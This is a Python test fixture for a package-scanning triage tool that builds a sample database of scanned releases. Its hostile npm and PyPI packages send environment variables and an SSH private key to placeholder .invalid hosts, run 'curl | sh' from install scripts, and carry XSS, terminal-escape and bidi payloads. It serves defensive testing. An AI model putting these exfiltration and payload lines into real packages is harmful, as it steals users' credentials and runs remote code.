"""A realistic watch database for the triage app's tests, built through malseq.watch.store.

The reports are real: packages are scanned by the real scanner (with review material, as
`malseq watch` asks for) and the JSON objects stored. Two of the packages are hostile to the web
page: their names, file paths, code, description, home page and install script hold `<script>`,
event-handler attributes, `javascript:` URLs, terminal escapes and bidi overrides. One release
carries a diff against its previous release (made by `malseq.diff`, as `--against-previous` does).
"""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass, replace
from pathlib import Path

from malseq.diff import diff_targets
from malseq.diff.previous import PreviousComparison
from malseq.report.json_report import result_to_dict
from malseq.scan import ScanOptions, TargetResult, scan
from malseq.watch.store import Label, NewRelease, ScanRecord, WatchStore, open_store

REPO = Path(__file__).resolve().parents[2]
EXAMPLES = REPO / "examples"

SCRIPT = "<script>document.title='pwned'</script>"
HANDLER = "<img src=x onerror=\"document.title='pwned'\">"
JS_URL = "javascript:document.title='pwned'"
TERMINAL = "\x1b]0;pwned\x07\x1b[2J"
BIDI = "\u202e"
HOSTILE_NPM_NAME = f"evil{SCRIPT}"
HOSTILE_PYPI_NAME = "py-evil"
HOSTILE_FILE = f"lib/{HANDLER}.js"
HOSTILE_MARKERS = (SCRIPT, HANDLER, "onerror=", "<script", JS_URL)


def _hostile_npm(folder: Path) -> Path:
    pkg = folder / "hostile-npm"
    (pkg / "lib").mkdir(parents=True)
    (pkg / "package.json").write_text(json.dumps({
        "name": HOSTILE_NPM_NAME, "version": "6.6.6",
        "description": f"{SCRIPT} {HANDLER} {TERMINAL} totally safe {BIDI}gnp.exe",
        "homepage": JS_URL, "repository": f"{JS_URL}//{SCRIPT}", "author": f"<b onmouseover=alert(1)>x</b>{TERMINAL}",
        "license": "MIT",
        "scripts": {"postinstall": f"node '{HOSTILE_FILE}' # {SCRIPT}"},
        "main": HOSTILE_FILE,
    }, indent=2), encoding="utf-8")
    (pkg / HOSTILE_FILE).write_text(
        "const os = require('os');\n"
        "const https = require('https');\n"
        f"// {SCRIPT} {TERMINAL}\n"
        f"const page = \"</code></pre>{SCRIPT}{HANDLER}\";\n"
        "const data = Buffer.from(JSON.stringify(process.env)).toString('base64');\n"
        f"const req = https.request({{hostname: 'x.example.invalid', path: '/{HANDLER}'}});\n"
        "req.write(data); req.end();\n"
        f"require('child_process').exec('curl {JS_URL} | sh');\n",
        encoding="utf-8")
    return pkg


def _hostile_pypi(folder: Path) -> Path:
    pkg = folder / "hostile-pypi"
    pkg.mkdir(parents=True)
    (pkg / "setup.py").write_text(
        "import os, base64, urllib.request\n"
        "from setuptools import setup\n"
        f"# {SCRIPT}\n"
        f"os.system(\"curl http://{HANDLER}.example.invalid/x | sh\")  # {TERMINAL}{BIDI}\n"
        "key = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()\n"
        "urllib.request.urlopen('http://x.example.invalid/?k=' + base64.b64encode(key).decode())\n"
        f"setup(name='{HOSTILE_PYPI_NAME}', version='1.0', description=\"{SCRIPT} {JS_URL}\", url=\"{JS_URL}\")\n",
        encoding="utf-8")
    return pkg


def _clean_v2(folder: Path) -> tuple[Path, Path]:
    """Two releases of a small npm library; the second adds an install hook (for the diff)."""
    old, new = folder / "lib-old", folder / "lib-new"
    for d, version in ((old, "1.0.0"), (new, "1.0.1")):
        d.mkdir(parents=True)
        manifest: dict[str, object] = {"name": "tiny-lib", "version": version, "main": "index.js",
                                       "description": "adds numbers"}
        (d / "index.js").write_text("module.exports = (a, b) => a + b;\n", encoding="utf-8")
        if d is new:
            manifest["scripts"] = {"postinstall": "node setup.js"}
            (d / "setup.js").write_text(
                "const https = require('https');\nconst os = require('os');\n"
                "https.get('https://collect.example.invalid/?h=' + os.hostname());\n", encoding="utf-8")
        (d / "package.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    return old, new


@dataclass(frozen=True)
class ScannedReports:
    """report JSON per key: npm_exfil, pypi_dropper, pypi_clean, hostile_npm, hostile_pypi, tiny_lib."""

    reports: tuple[tuple[str, str, float | None, str | None], ...]  # key, report JSON, score, verdict

    def get(self, key: str) -> tuple[str, float | None, str | None]:
        for k, report, score, verdict in self.reports:
            if k == key:
                return report, score, verdict
        raise KeyError(key)


def scan_reports(workdir: Path) -> ScannedReports:
    """Scan the packages once (one model load) and keep their JSON reports."""
    hostile_npm, hostile_pypi = _hostile_npm(workdir), _hostile_pypi(workdir)
    old, new = _clean_v2(workdir)
    examples = workdir / "examples"
    shutil.copytree(EXAMPLES, examples)
    keys = ("npm_exfil", "pypi_dropper", "pypi_clean", "hostile_npm", "hostile_pypi")
    targets = [str(examples / "npm-env-exfil"), str(examples / "pypi-install-dropper"),
               str(examples / "pypi-clean-lib"), str(hostile_npm), str(hostile_pypi)]
    options = ScanOptions(review_material=True)
    results = scan(targets, options)
    out = [(k, json.dumps(result_to_dict(r), ensure_ascii=True), r.score, r.verdict) for k, r in zip(keys, results,
                                                                                                    strict=True)]
    diff = diff_targets(str(old), str(new), options)
    comparison = PreviousComparison(
        current="npm:tiny-lib@1.0.1", previous="npm:tiny-lib@1.0.0", notice=None,
        previous_score=diff.old.score, previous_verdict=diff.old.verdict, score=diff.new.score,
        added_steps=diff.added_steps, malicious_change=diff.malicious, diff=diff)
    new_result: TargetResult = replace(scan([str(new)], options)[0], previous=comparison)
    out.append(("tiny_lib", json.dumps(result_to_dict(new_result), ensure_ascii=True), new_result.score,
                new_result.verdict))
    return ScannedReports(tuple(out))


# (key, ecosystem, name, version, hours before `now` it was first seen)
RELEASES = (
    ("npm_exfil", "npm", "env-collector", "0.0.3", 3.0),
    ("pypi_dropper", "pypi", "helperlib", "0.0.1", 5.0),
    ("pypi_clean", "pypi", "tinymath", "1.2.0", 7.0),
    ("hostile_npm", "npm", HOSTILE_NPM_NAME, "6.6.6", 1.0),
    ("hostile_pypi", "pypi", HOSTILE_PYPI_NAME, "1.0", 2.0),
    ("tiny_lib", "npm", "tiny-lib", "1.0.1", 4.0),
)


def build_db(path: Path, reports: ScannedReports, now: float, filler: int = 60) -> dict[str, int]:
    """The database: the scanned releases, `filler` benign-looking ones (for paging), one pending,
    one parked, a few labels. Returns release ids by key."""
    ids: dict[str, int] = {}
    with open_store(path) as store:
        for key, eco, name, version, hours in RELEASES:
            seen = now - hours * 3600
            rid = store.enqueue(NewRelease(eco, name, version, "names"), seen)
            assert rid is not None
            report, score, verdict = reports.get(key)
            _complete(store, rid, seen + 60, ScanRecord(seen + 60, score, verdict, "shipped", "k", "low-fpr", report))
            ids[key] = rid
        clean_report, clean_score, clean_verdict = reports.get("pypi_clean")
        for i in range(filler):
            seen = now - (i % 40) * 3600 - 600
            rid = store.enqueue(NewRelease("pypi" if i % 3 else "npm", f"filler-{i:03d}", "1.0", "pypi-simple"), seen)
            assert rid is not None
            score = (clean_score or 0.01) * (1 + (i % 7) / 10)
            _complete(store, rid, seen + 120, ScanRecord(seen + 120, score, clean_verdict, "shipped", "k", "low-fpr",
                                                         clean_report))
        pending = store.enqueue(NewRelease("npm", "not-yet-scanned", "0.1.0", "names"), now - 300)
        parked = store.enqueue(NewRelease("pypi", "broken-archive", "2.0", "names"), now - 900)
        assert pending is not None and parked is not None
        claimed = store.claim_next("w", now, 60)
        while claimed is not None and claimed.id != parked:
            store.fail(claimed, "skipped in this fixture", now, 10_000, 99)
            claimed = store.claim_next("w", now, 60)
        assert claimed is not None
        store.fail(claimed, f"CorruptArchiveError: not a gzip file {SCRIPT}", now, 60, 1)
        ids["pending"], ids["parked"] = pending, parked
        store.add_label(ids["npm_exfil"], Label.MALICIOUS, "ann", now - 1800, "exfiltrates the environment")
        store.add_label(ids["pypi_clean"], Label.BENIGN, "bob", now - 1700, f"fine {SCRIPT}")
        store.add_label(ids["pypi_dropper"], Label.UNSURE, f"eve{HANDLER}", now - 1600, f"{JS_URL} {TERMINAL}")
    return ids


def _complete(store: WatchStore, release_id: int, at: float, record: ScanRecord) -> None:
    claimed = store.claim_next("fixture", at, 60)
    assert claimed is not None and claimed.id == release_id, (claimed, release_id)
    assert store.complete(claimed, record)
